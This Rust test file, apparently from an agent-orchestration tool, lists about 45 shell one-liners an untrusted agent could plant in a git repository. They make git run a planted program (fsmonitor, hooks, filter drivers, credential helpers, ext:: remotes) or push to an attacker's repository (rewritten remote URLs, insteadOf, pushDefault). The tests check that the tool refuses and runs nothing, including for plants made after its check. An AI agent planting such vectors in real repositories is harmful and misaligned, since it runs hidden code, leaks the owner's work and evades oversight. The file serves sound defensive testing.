//! What an agent may plant so that git runs or sends something: each by its own script, as an agent would do it.
//! Planted for good it holds git; planted between our check and git's start it is not seen.

use super::{Owner, date, path};
use crate::{GitError, MergeWish, Pushed, Repo};
use agency_protocols::model::{CommitId, MergeStyle, TreeId};
use std::collections::BTreeMap;
use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;

/// What shows that a vector is real.
enum Proof {
    /// The owner's own git would run it.
    Runs(&'static str),
    /// The owner's own push would go to the attacker.
    Sends,
    /// It leads git elsewhere, or runs where no test can follow.
    None,
}
use Proof::{None as Unproven, Runs, Sends};

struct Vector {
    name: &'static str,
    /// Shell, in the repository. `$TRAP` leaves a file behind when it runs; `$EVIL` is the attacker's bare repository.
    plant: &'static str,
    proof: Proof,
}

const fn vector(name: &'static str, plant: &'static str, proof: Proof) -> Vector {
    Vector { name, plant, proof }
}

/// `c` appends to the repository's configuration.
const PRELUDE: &str = r#"c() { printf '[%s]\n%s = "%s"\n' "$1" "$2" "$3" >> .git/config; }
hook() { mkdir -p "$1"; for h in pre-commit post-commit commit-msg reference-transaction post-index-change pre-push \
  post-checkout pre-auto-gc fsmonitor-watchman post-merge pre-applypatch; do cp "$TRAP" "$1/$h"; done; }
"#;

#[rustfmt::skip]
const VECTORS: &[Vector] = &[
    vector("core.fsmonitor", r#"c core fsmonitor "$TRAP""#, Runs("status")),
    vector("hooks", "hook .git/hooks", Runs("commit --allow-empty -m x")),
    vector("core.hooksPath", "hook .githooks; c core hooksPath .githooks", Runs("commit --allow-empty -m x")),
    vector("filter.clean", r#"c 'filter "e"' clean "$TRAP"; echo '* filter=e' > .gitattributes"#, Runs("add --renormalize .")),
    vector("filter.process", r#"c 'filter "e"' process "$TRAP"; echo '* filter=e' > .git/info/attributes"#, Runs("add --renormalize . --ignore-errors")),
    vector("filter.smudge", r#"c 'filter "e"' smudge "$TRAP"; echo '* filter=e' > .gitattributes"#, Runs("checkout-index -f -a --prefix=.git/out/")),
    vector("include.path", r#"printf '[core]\nfsmonitor = %s\n' "$TRAP" > .git/more; c include path more"#, Runs("status")),
    vector("includeIf", r#"printf '[core]\nfsmonitor = %s\n' "$TRAP" > .git/more; c 'includeIf "onbranch:main"' path more"#, Runs("status")),
    vector("config.worktree", r#"c extensions worktreeConfig true; printf '[core]\nfsmonitor = %s\n' "$TRAP" > .git/config.worktree"#, Runs("status")),
    vector("diff.external", r#"c diff external "$TRAP""#, Runs("diff HEAD~1")),
    vector("diff.command", r#"c 'diff "e"' command "$TRAP"; echo '* diff=e' > .gitattributes"#, Runs("diff HEAD~1")),
    vector("diff.textconv", r#"c 'diff "e"' textconv "$TRAP"; echo '* diff=e' > .gitattributes"#, Runs("diff HEAD~1")),
    vector("merge.driver", r#"c 'merge "e"' driver "$TRAP"; echo '* merge=e' > .git/info/attributes"#, Runs("merge -m x side")),
    vector("core.attributesFile", r#"c 'filter "e"' clean "$TRAP"; echo '* filter=e' > .git/attr; c core attributesFile .git/attr"#, Runs("add --renormalize .")),
    vector("core.editor", r#"c core editor "$TRAP""#, Runs("commit --allow-empty")),
    vector("core.pager", r#"c core pager "$TRAP""#, Unproven),
    vector("core.askPass", r#"c core askPass "$TRAP""#, Unproven),
    vector("credential.helper", r#"c credential helper "!$TRAP""#, Runs("credential fill")),
    vector("gpg.program", r#"c gpg program "$TRAP"; c commit gpgSign true; c push gpgSign true"#, Runs("commit --allow-empty -m x")),
    vector("alias", r#"c alias st "!$TRAP""#, Runs("st")),
    vector("core.sshCommand", r#"c core sshCommand "$TRAP"; c 'remote "hub"' url ssh://nowhere/x"#, Runs("push hub main")),
    vector("core.gitProxy", r#"c core gitProxy "$TRAP"; c 'remote "hub"' pushurl git://nowhere/x"#, Runs("push hub main")),
    vector("remote.receivepack", r#"c 'remote "hub"' receivepack "$TRAP""#, Runs("push hub main")),
    vector("remote.uploadpack", r#"c 'remote "hub"' uploadpack "$TRAP""#, Runs("fetch hub")),
    vector("remote.ext", r#"c protocol.ext allow always; c 'remote "hub"' pushurl "ext::$TRAP""#, Runs("push hub main")),
    vector("remote.vcs", r#"c 'remote "hub"' vcs evil"#, Unproven),
    vector("remote.url", r#"sed -i "s#url = .*bare.git#url = $EVIL#" .git/config"#, Sends),
    vector("remote.pushurl", r#"c 'remote "hub"' pushurl "$EVIL""#, Sends),
    vector("url.insteadOf", r#"c "url \"$EVIL\"" insteadOf ../bare.git"#, Sends),
    vector("url.pushInsteadOf", r#"c "url \"$EVIL\"" pushInsteadOf ../bare.git"#, Sends),
    vector("remote.pushDefault", r#"c 'remote "evil"' url "$EVIL"; c remote pushDefault evil"#, Sends),
    vector("branch.pushRemote", r#"c 'remote "evil"' url "$EVIL"; c 'branch "main"' pushRemote evil"#, Sends),
    vector("http.proxy", "c http proxy http://127.0.0.1:9", Unproven),
    vector("gc.recentObjectsHook", r#"c gc recentObjectsHook "$TRAP""#, Unproven),
    vector("trailer.cmd", r#"c 'trailer "x"' cmd "$TRAP""#, Runs("commit --allow-empty -m x --trailer x")),
    vector("sequence.editor", r#"c sequence editor "$TRAP""#, Runs("rebase -i HEAD~1")),
    vector("core.alternateRefsCommand", r#"c core alternateRefsCommand "$TRAP""#, Unproven),
    vector("core.worktree", r#"c core worktree /"#, Unproven),
    vector("init.templateDir", r#"hook .git/t/hooks; c init templateDir .git/t"#, Unproven),
    vector("submodule.update", r#"c 'submodule "x"' update "!$TRAP"; c 'submodule "x"' url ../evil.git"#, Unproven),
    vector("a module's configuration", r#"mkdir -p .git/modules/x; echo 'ref: refs/heads/main' > .git/modules/x/HEAD
        printf '[core]\nfsmonitor = %s\n' "$TRAP" > .git/modules/x/config"#, Unproven),
    vector("alternates", r#"echo "$EVIL/objects" > .git/objects/info/alternates"#, Unproven),
    vector("grafts", r#"git rev-parse HEAD > .git/info/grafts"#, Unproven),
    vector("commondir", r#"echo "$EVIL" > .git/commondir"#, Unproven),
    vector("a program of the owner's", r#"cp "$TRAP" tools/clean"#, Runs("add --renormalize .")),
];

/// A repository with a remote, an attacker's beside it, and a filter of the owner's whose program lies in the tree.
struct Stage {
    owner: Owner,
    repo: Repo,
    first: CommitId,
    side: CommitId,
    tree: TreeId,
}

impl Stage {
    fn owner() -> Owner {
        let owner = Owner::new();
        owner.script("tools/clean", "#!/bin/sh\nexec cat\n");
        owner.write(".gitattributes", "*.own filter=own\n");
        owner.write("x.own", "own\n");
        owner.git(&["config", "filter.own.clean", "tools/clean"]);
        let owner = owner.and_commit();
        for bare in ["../bare.git", "../evil.git"] {
            owner.git(&["init", "--quiet", "--bare", bare]);
        }
        owner.git(&["remote", "add", "hub", "../bare.git"]);
        owner.git(&["checkout", "--quiet", "-b", "side"]);
        owner.write("a.txt", "side\n");
        owner.git(&["commit", "--quiet", "--all", "-m", "side"]);
        owner.git(&["checkout", "--quiet", "main"]);
        owner.write("a.txt", "second\n");
        owner.git(&["commit", "--quiet", "--all", "-m", "second"]);
        let trap =
            format!("#!/bin/sh\necho \"$0\" >> '{}'\nexit 1\n", owner.at("../ran").display());
        owner.script("../trap", &trap);
        owner
    }

    async fn new() -> Self {
        let owner = Self::owner();
        let (repo, first) = (owner.open().await, owner.head());
        let side = CommitId::new(owner.git(&["rev-parse", "side"]));
        let tree = TreeId::new(owner.git(&["rev-parse", "side^{tree}"]));
        Self { owner, repo, first, side, tree }
    }

    fn plant(&self, vector: &Vector) {
        plant(&self.owner, vector);
    }

    /// Every question and every deed of ours.
    async fn every_verb(&self) -> Vec<(&'static str, Result<(), GitError>)> {
        let (repo, first) = (&self.repo, &self.first);
        let empty = TreeId::new(repo.0.format.empty_tree());
        let write = [(path("p"), b"p".to_vec())];
        let planned = repo.plan("main", Some(first), &[], &write, "m", date()).await;
        let commit = match &planned {
            Ok(planned) => repo.commit(planned).await.map(drop),
            Err(_) => repo.move_anything(first).await,
        };
        let tip = planned.as_ref().map_or(first, |planned| &planned.id);
        let mut done = vec![
            ("snapshot", repo.snapshot("probe", None).await.map(drop)),
            ("plan", planned.as_ref().map(drop).map_err(again)),
            ("commit", commit),
            ("contains", repo.contains("main", &CommitId::new("0".repeat(40))).await.map(drop)),
            ("ancestor", repo.contains("side", first).await.map(drop)),
            ("diff", repo.diff(&empty, &empty).await.map(drop)),
            ("file_at", repo.file_at(first, &path("a.txt"), 100).await.map(drop)),
            ("ask_commit", repo.ask_commit("HEAD").await.map(drop)),
            ("make_again", repo.remake(first).await),
            ("push", repo.push("main", tip).await.map(drop)),
            ("merge-tree", self.merge_side().await),
            ("range", repo.range(None, first).await.map(drop)),
            ("sides", repo.sides(Some(first), &self.tree, &[path("a.txt")]).await.map(drop)),
            ("move_ref", repo.move_ref("refs/heads/probe", None, Some(first)).await.map(drop)),
        ];
        let dir = self.owner.dir.path().join("worktree");
        done.push(("add_worktree", repo.add_worktree(&dir, "task", first).await));
        if dir.exists() {
            done.push(("drop_worktree", repo.drop_worktree(&dir).await));
        }
        done
    }

    async fn merge_side(&self) -> Result<(), GitError> {
        let (onto, theirs) = (&self.first, &self.side);
        let (style, message, date) = (MergeStyle::Merge, "m", date());
        let wish = MergeWish { target: "main", onto, theirs, style, message, date, keep: None };
        self.repo.plan_merge(&wish).await.map(drop)
    }

    fn ran(&self) -> String {
        ran(&self.owner)
    }

    fn sent(&self) -> String {
        sent(&self.owner)
    }
}

/// The repository's files as they were, so that what is planted can be taken away again.
struct Kept(BTreeMap<PathBuf, (Vec<u8>, fs::Permissions)>);

impl Kept {
    fn of(owner: &Owner) -> Self {
        let file = |path: PathBuf| {
            let mode = fs::metadata(&path).unwrap().permissions();
            (path.clone(), (fs::read(path).unwrap(), mode))
        };
        Self(files_below(&owner.root).into_iter().map(file).collect())
    }

    fn put_back(&self, owner: &Owner) {
        for path in files_below(&owner.root) {
            if !self.0.contains_key(&path) {
                fs::remove_file(path).unwrap();
            }
        }
        for (path, (bytes, mode)) in &self.0 {
            if fs::read(path).ok().as_ref() != Some(bytes) {
                drop(fs::remove_file(path));
                fs::write(path, bytes).unwrap();
                fs::set_permissions(path, mode.clone()).unwrap();
            }
        }
    }
}

fn files_below(dir: &Path) -> Vec<PathBuf> {
    let entries = fs::read_dir(dir).unwrap().map(|entry| entry.unwrap());
    let below = |entry: fs::DirEntry| {
        let folder = entry.file_type().unwrap().is_dir();
        if folder { files_below(&entry.path()) } else { vec![entry.path()] }
    };
    entries.flat_map(below).collect()
}

impl Repo {
    async fn move_anything(&self, to: &CommitId) -> Result<(), GitError> {
        let call = crate::Call::local("update-ref").args(["refs/agency/x", to.as_str()]);
        self.git(call).await.map(drop)
    }

    async fn remake(&self, from: &CommitId) -> Result<(), GitError> {
        let call = crate::Call::local("rev-list").args(["--objects", "--quiet", from.as_str()]);
        self.git(call).await.map(drop)
    }
}

/// The same error once more, as far as it matters here.
fn again(error: &GitError) -> GitError {
    match error {
        GitError::Held { changes } => GitError::Held { changes: changes.clone() },
        other => GitError::OddOutput { verb: "plan", found: other.to_string() },
    }
}

fn plant(owner: &Owner, vector: &Vector) {
    shell(owner, &format!("{PRELUDE}{}", vector.plant));
}

fn shell(owner: &Owner, script: &str) {
    let mut command = Command::new("sh");
    command.args(["-ec", script]).current_dir(&owner.root).env_clear().envs(owner.env());
    command.env("TRAP", owner.at("../trap").canonicalize().unwrap());
    command.env("EVIL", owner.at("../evil.git").canonicalize().unwrap());
    let output = command.output().unwrap();
    assert!(output.status.success(), "{script}: {}", String::from_utf8_lossy(&output.stderr));
}

fn ran(owner: &Owner) -> String {
    fs::read_to_string(owner.at("../ran")).unwrap_or_default()
}

/// What has arrived at the attacker.
fn sent(owner: &Owner) -> String {
    arrived(owner, "evil.git")
}

fn arrived(owner: &Owner, bare: &str) -> String {
    fs::read_to_string(owner.at(&format!("../{bare}/refs/heads/main"))).unwrap_or_default()
}

// covers: SE-01
#[tokio::test]
async fn whatever_is_planted_holds_every_verb_and_runs_nothing() {
    let stage = Stage::new().await;
    let kept = Kept::of(&stage.owner);
    for vector in VECTORS {
        let name = vector.name;
        stage.plant(vector);
        for (verb, done) in stage.every_verb().await {
            assert!(matches!(done, Err(GitError::Held { .. })), "{name}: {verb} says {done:?}");
        }
        assert_eq!(stage.ran(), "", "{name}");
        assert_eq!(stage.sent(), "", "{name}");
        kept.put_back(&stage.owner);
        stage.repo.check().unwrap_or_else(|error| panic!("{name} is gone again: {error}"));
    }
    assert!(VECTORS.len() >= 40);
}

// covers: SE-01
#[test]
fn every_vector_is_real() {
    let owner = Stage::owner();
    let kept = Kept::of(&owner);
    for vector in VECTORS {
        let line = match vector.proof {
            Runs(line) => line,
            Sends => {
                "push --quiet $(git config remote.pushDefault || git config branch.main.pushRemote || echo hub) main"
            }
            Unproven => continue,
        };
        plant(&owner, vector);
        // Some ask on stdin for what they need.
        let asked = "printf 'protocol=https\\nhost=x\\n\\n'";
        shell(
            &owner,
            &format!("{asked} | git -c user.name=O -c user.email=o@o {line} >/dev/null 2>&1 || :"),
        );
        let effect = if matches!(vector.proof, Sends) { sent(&owner) } else { ran(&owner) };
        assert_ne!(effect, "", "{}: plain git must fall for it", vector.name);
        kept.put_back(&owner);
        for trace in ["../ran", "../evil.git/refs/heads/main"] {
            drop(fs::remove_file(owner.at(trace)));
        }
    }
}

/// A program in the tree that the owner's own settings name can only be checked, not kept; and git looks for refs where a
/// `commondir` leads, whatever it is told.
fn can_only_be_checked(vector: &Vector) -> bool {
    ["a program of the owner's", "commondir"].contains(&vector.name)
}

/// Plants after the check, then does everything.
async fn race(stage: &Stage, plants: &[&Vector]) {
    stage.repo.check().unwrap();
    stage.repo.0.guard.get().unwrap().look_away();
    let names: Vec<_> = plants.iter().map(|vector| vector.name).collect();
    plants.iter().for_each(|vector| stage.plant(vector));
    stage.owner.write("new.txt", "new\n");
    let found = Repo::open_with(&stage.owner.root, stage.owner.options()).await.unwrap();
    assert!(found.is_some(), "a new daemon finds the repository all the same: {names:?}");
    for (verb, done) in stage.every_verb().await {
        assert!(done.is_ok(), "{verb} says {done:?} of {names:?}");
    }
    assert_eq!((stage.ran(), stage.sent()), Default::default(), "{names:?}");
    assert_ne!(arrived(&stage.owner, "bare.git"), "", "{names:?}: the push went where it belongs");
}

// covers: SE-01
#[tokio::test]
async fn what_is_planted_after_the_check_is_not_seen() {
    let alone = std::env::var_os("AGENCY_TRIALS").is_some();
    let all: Vec<&Vector> = VECTORS.iter().filter(|vector| !can_only_be_checked(vector)).collect();
    let size = if alone { 1 } else { all.len() };
    for plants in all.chunks(size) {
        race(&Stage::new().await, plants).await;
    }
}

// covers: SE-01
#[tokio::test]
async fn a_push_that_is_redirected_after_the_check_goes_where_it_belongs() {
    let stage = Stage::new().await;
    stage.repo.check().unwrap();
    stage.repo.0.guard.get().unwrap().look_away();
    let kept = Kept::of(&stage.owner);
    for vector in VECTORS.iter().filter(|vector| matches!(vector.proof, Sends)) {
        stage.plant(vector);
        let pushed = stage.repo.push("main", &stage.first).await.unwrap();
        assert_eq!((pushed, stage.sent()), (Pushed::Done, String::new()), "{}", vector.name);
        assert_ne!(arrived(&stage.owner, "bare.git"), "", "{}", vector.name);
        fs::remove_file(stage.owner.at("../bare.git/refs/heads/main")).unwrap();
        kept.put_back(&stage.owner);
    }
}

// covers: SE-01
#[tokio::test]
async fn a_repository_inside_the_tree_runs_nothing() {
    let stage = Stage::new().await;
    let inside = "git init --quiet inside; cd inside; echo x > x; git add x
        git -c user.name=A -c user.email=a@b commit --quiet -m x
        printf '[core]\\nfsmonitor = %s\\n[filter \"e\"]\\nclean = %s\\n' \"$TRAP\" \"$TRAP\" >> .git/config
        echo '* filter=e' > .git/info/attributes; touch -d yesterday x; cd ..
        printf '[submodule \"inside\"]\\npath = inside\\nurl = ./inside\\nignore = none\\n' > .gitmodules";
    shell(&stage.owner, inside);
    for label in ["one", "two"] {
        stage.repo.snapshot(label, None).await.unwrap();
    }
    assert_eq!(stage.ran(), "");
    shell(&stage.owner, "git add --all 2>/dev/null; touch inside/x; git status >/dev/null || :");
    assert_ne!(stage.ran(), "", "plain git falls for it");
}
